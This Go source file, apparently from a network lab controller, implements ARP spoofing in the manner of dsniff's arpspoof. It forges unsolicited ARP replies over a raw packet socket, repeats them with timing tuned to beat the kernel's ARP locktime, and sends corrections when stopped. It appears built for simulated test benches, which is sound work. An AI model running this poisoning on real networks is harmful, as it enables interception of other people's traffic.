package reach

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"

	"labctl/switchcore"
	"labctl/topology"
)

// Spoofing is forged ARP replies that are repeated until it is stopped.
type Spoofing struct {
	b     *bench
	g     *background
	node  string
	nic   string // the interface's name
	fd    int
	index int
	lies  [][]byte
	truth []correction // what undoes the lies, as far as somebody owns the address
	every time.Duration
	sent  atomic.Uint64

	end     sync.Once
	stop    chan struct{}
	silent  bool // set before stop is closed
	done    chan struct{}
	refused error // why frames could not be sent the last time; read it when done is closed
}

// correction is a reply that tells a victim where an address is.
type correction struct {
	frame  []byte
	victim string // the node
	ip     netip.Addr
	mac    switchcore.MAC
}

// The kernel takes no unsolicited reply for an entry that it changed less than locktime ago, 1 s unless a lab says
// otherwise (arp(7)): the last correction comes later than that after the last lie.
const (
	corrections   = 13
	betweenTruths = 100 * time.Millisecond
)

// afterLock is how much longer than the others the first pause between lies is. A victim that has just found its
// neighbour ignores the first lie, and for a whole locktime those that follow: one that comes after exactly as long
// would be ignored too, as often as not.
const afterLock = 20 * time.Millisecond

// Spoof sends unsolicited ARP replies as dsniff's arpspoof(8) does: to the victim's address and to nobody else's, that
// the address of another is at a.From's; with a.Both also the other way round. They change an entry of the victim, they
// never make one. The first has been sent when Spoof returns; the others follow every second, or a.Every, the second of
// them 20 ms later than that, until ctx is done, which ends it silently, or it is stopped. MAC addresses are those that
// the interfaces have at this moment. A frame that the interface refuses later, as one that is down does, is tried
// again at its next turn, by the interface that has its name then.
func (p *Prober) Spoof(ctx context.Context, a *topology.ARPSpoof) (*Spoofing, error) {
	p.mu.Lock()
	s, err := newSpoofing(p.bench(), &p.background, a)
	p.mu.Unlock()
	if err == nil {
		if s.send(s.lies); s.refused != nil {
			err = s.refused
			_ = unix.Close(s.fd)
		}
	}
	if err != nil {
		return nil, fmt.Errorf("arp_spoof from %s: %w", a.From.Text, err)
	}
	s.g.spoofs(1)
	go s.run(ctx)
	return s, nil
}

// Sent is how many replies the interface has taken, corrections too.
func (s *Spoofing) Sent() uint64 { return s.sent.Load() }

// Stop ends the spoofing and returns when its socket is closed. Unless silent, the victims are told the truth first, as
// arpspoof does when it is interrupted: until their tables have it, or several times over a good second. Whose address
// the claimed one is must be known for that. The first call counts. The error is that the interface refused the last
// correction.
func (s *Spoofing) Stop(silent bool) error {
	s.end.Do(func() {
		s.silent = silent
		close(s.stop)
	})
	<-s.done
	return s.refused
}

// newSpoofing prepares the frames and the socket.
func newSpoofing(b *bench, g *background, a *topology.ARPSpoof) (*Spoofing, error) {
	own, err := b.owners()
	if err != nil {
		return nil, err
	}
	self, err := b.nic(own, a.From.Node, a.From.Interface)
	if err != nil {
		return nil, err
	}
	victim, err := own.resident(a.Victim, self)
	if err != nil {
		return nil, err
	}
	claimed, err := own.resident(a.Claims, self)
	if err != nil {
		return nil, err
	}
	if victim.mac.IsZero() || a.Both && claimed.mac.IsZero() {
		return nil, errors.New("a reply is sent to somebody's MAC address: the victim has none")
	}
	s := &Spoofing{b: b, g: g, node: a.From.Node, nic: self.Name, index: self.Index, every: a.Every,
		stop: make(chan struct{}), done: make(chan struct{})}
	if s.every <= 0 {
		s.every = time.Second
	}
	s.forge(self.MAC, victim, claimed)
	if a.Both {
		s.forge(self.MAC, claimed, victim)
	}
	if s.fd, err = b.machine.Socket(a.From.Node, unix.AF_PACKET, unix.SOCK_RAW, 0); err != nil {
		return nil, fmt.Errorf("open a packet socket: %w", err)
	}
	return s, nil
}

// resident is somebody on a segment.
type resident struct {
	ip   netip.Addr
	mac  switchcore.MAC // zero when nobody has said
	node string         // "" of somebody who is no node
}

// resident finds the address that a target has on the segment of an interface. An interface without an address does not
// say what its segment is: then it is the target's first.
func (o *owners) resident(t topology.Target, at topology.LinkState) (resident, error) {
	if t.Name != "" {
		for _, n := range o.lab.Names {
			if n.Name == t.Name && n.IP.Is4() {
				return resident{ip: n.IP, mac: n.MAC}, nil
			}
		}
		return resident{}, fmt.Errorf("%s has no IPv4 address", t.Text)
	}
	var segment []netip.Prefix
	for _, a := range at.Addrs {
		if a.Addr().Is4() {
			segment = append(segment, a.Masked())
		}
	}
	for _, l := range o.links[t.Node] {
		if t.Interface != "" && l.Name != t.Interface {
			continue
		}
		for _, a := range l.Addrs {
			ip := a.Addr()
			if !ip.Is4() || ip.IsLoopback() || len(segment) > 0 &&
				!slices.ContainsFunc(segment, func(p netip.Prefix) bool { return p.Contains(ip) }) {
				continue
			}
			return resident{ip, l.MAC, t.Node}, nil
		}
	}
	if len(segment) == 0 {
		return resident{}, fmt.Errorf("%s has no IPv4 address now", t.Text)
	}
	return resident{}, fmt.Errorf("%s has no address now in %s, the segment of %s", t.Text, segment[0], at.Name)
}

// forge adds the lie that an address is at liar's, and what corrects it. Both come from the liar's own address, as
// arpspoof's do unless told otherwise: a correction with its owner's would teach switches on the way a wrong port.
func (s *Spoofing) forge(liar switchcore.MAC, victim, claimed resident) {
	s.lies = append(s.lies, unasked(liar, liar, victim, claimed.ip))
	if !claimed.mac.IsZero() {
		s.truth = append(s.truth, correction{unasked(liar, claimed.mac, victim, claimed.ip), victim.node, claimed.ip,
			claimed.mac})
	}
}

// unasked is a reply to somebody that an address is at a MAC (RFC 826), padded.
func unasked(from, at switchcore.MAC, to resident, ip netip.Addr) []byte {
	b := append(append(make([]byte, 0, minFrame), to.mac[:]...), from[:]...)
	b = append(b, unix.ETH_P_ARP>>8, unix.ETH_P_ARP&0xff, 0, 1, 8, 0, 6, 4, 0, 2)
	b = append(append(b, at[:]...), ip.AsSlice()...)
	b = append(append(b, to.mac[:]...), to.ip.AsSlice()...)
	return b[:minFrame]
}

// send sends frames, and notes when one is refused.
func (s *Spoofing) send(frames [][]byte) {
	s.refused = nil
	for _, f := range frames {
		err := s.put(f)
		if outdated(err) {
			if l, ok := s.b.linkNow(s.node, s.nic); ok && l.Index != s.index {
				s.index = l.Index
				err = s.put(f)
			}
		}
		if err != nil {
			s.refused = err
			continue
		}
		s.sent.Add(1)
	}
	s.g.mu.Lock()
	defer s.g.mu.Unlock()
	s.g.forged = time.Now()
}

func (s *Spoofing) put(frame []byte) error {
	for {
		if err := unix.Sendto(s.fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: s.index}); !errors.Is(err, unix.EINTR) {
			return err
		}
	}
}

func (s *Spoofing) run(ctx context.Context) {
	defer close(s.done)
	defer s.g.spoofs(-1)
	defer unix.Close(s.fd)
	tick := time.NewTicker(s.every + afterLock)
	defer tick.Stop()
	for first := true; ; {
		select {
		case <-ctx.Done():
			return
		case <-s.stop:
			s.refused = nil
			if !s.silent {
				s.correct(ctx)
			}
			return
		case <-tick.C:
			s.send(s.lies)
			if first {
				tick.Reset(s.every)
				first = false
			}
		}
	}
}

// correct tells the truth until the victims have it, at most so often.
func (s *Spoofing) correct(ctx context.Context) {
	tick := time.NewTicker(betweenTruths)
	defer tick.Stop()
	frames := make([][]byte, len(s.truth))
	for i, c := range s.truth {
		frames[i] = c.frame
	}
	for left := corrections; len(s.truth) > 0; {
		s.send(frames)
		if left--; left == 0 || s.believed(ctx) {
			return
		}
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
	}
}

// believed reports whether all victims are nodes whose tables have no lie any more, with nothing of it under way.
func (s *Spoofing) believed(ctx context.Context) bool {
	if s.b.machine.Idle(ctx) != nil {
		return false
	}
	for _, c := range s.truth {
		if c.victim == "" {
			return false
		}
		entries, err := s.b.machine.Neighbours(c.victim, unix.AF_INET)
		if err != nil || slices.ContainsFunc(entries, func(e topology.NeighbourEntry) bool {
			return e.IP == c.ip && e.MAC != c.mac
		}) {
			return false
		}
	}
	return true
}
